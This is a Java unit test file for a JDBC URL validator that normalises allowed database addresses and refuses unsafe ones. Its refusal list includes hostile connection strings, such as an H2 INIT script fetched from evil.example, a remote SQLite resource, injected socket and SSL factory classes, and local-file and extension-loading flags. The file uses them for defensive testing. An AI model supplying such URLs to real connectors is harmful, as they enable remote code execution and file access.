package io.adaptor.connectors.database;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.adaptor.api.error.AdaptorException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcAddressTest {
    private static final PermittedDrivers USUAL = PermittedDrivers.of(null);

    @Test
    void anAddressIsWrittenAnew() {
        JdbcAddress address = JdbcAddress.of("jdbc:mysql://db.example/shop?useCompression=true", USUAL);

        assertThat(address.url()).isEqualTo("jdbc:mariadb://db.example:3306/shop");
        assertThat(address.product()).isEqualTo(Product.MARIADB);
        assertThat(address.properties()).containsEntry("useCompression", "true");
        assertThat(JdbcAddress.of("jdbc:postgresql://[2001:db8::1]:5433/shop", USUAL)
                        .host())
                .isEqualTo("2001:db8::1");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db/shop?socketFactory=org.example.Evil",
                "jdbc:postgresql://db/shop?sslfactory=org.example.Evil",
                "jdbc:postgresql://db/shop?loggerFile=/etc/x",
                "jdbc:postgresql://db/shop?ApplicationName=a&socketFactoryArg=b",
                "jdbc:postgresql://db/shop?sslmode=disable",
                "jdbc:postgresql://db/shop?password=canary-1",
                "jdbc:postgresql://db,other/shop",
                "jdbc:postgresql:shop",
                "jdbc:postgresql://db:99999/shop",
                "jdbc:mariadb://db/shop?allowLocalInfile=true",
                "jdbc:mariadb:replication://a,b/shop",
                "jdbc:mariadb://address=(host=db)/shop",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:h2:tcp://db/shop",
                "jdbc:h2:mem:x;MODE=MySQL;init=x",
                "jdbc:h2:zip:/a.zip!/x",
                "jdbc:sqlite::memory:",
                "jdbc:sqlite:shop.db",
                "jdbc:sqlite:/shop.db?enable_load_extension=true",
                "jdbc:sqlite::resource:http://evil.example/x.db",
                "jdbc:oracle:thin:@//db:1521/shop",
                "jdbc:sqlserver://db:1433;databaseName=x",
                "postgresql://db/shop",
            })
    void whatIsNotPermittedIsRefused(String url) {
        assertThatThrownBy(() -> JdbcAddress.of(url, USUAL))
                .isInstanceOf(AdaptorException.class)
                .hasMessageContaining("base_url")
                .hasMessageNotContaining("canary");
    }

    @Test
    void theOperatorNamesOthersOrFewer() {
        PermittedDrivers stated = PermittedDrivers.of("postgresql, oracle=oracle.jdbc.OracleDriver");

        JdbcAddress oracle = JdbcAddress.of("jdbc:oracle:thin:@//db.example:1521/shop", stated);
        assertThat(oracle.driver()).isEqualTo("oracle.jdbc.OracleDriver");
        assertThat(oracle.host()).isEqualTo("db.example");
        assertThatThrownBy(() -> JdbcAddress.of("jdbc:h2:mem:x", stated)).hasMessageContaining("[oracle, postgresql]");
    }
}
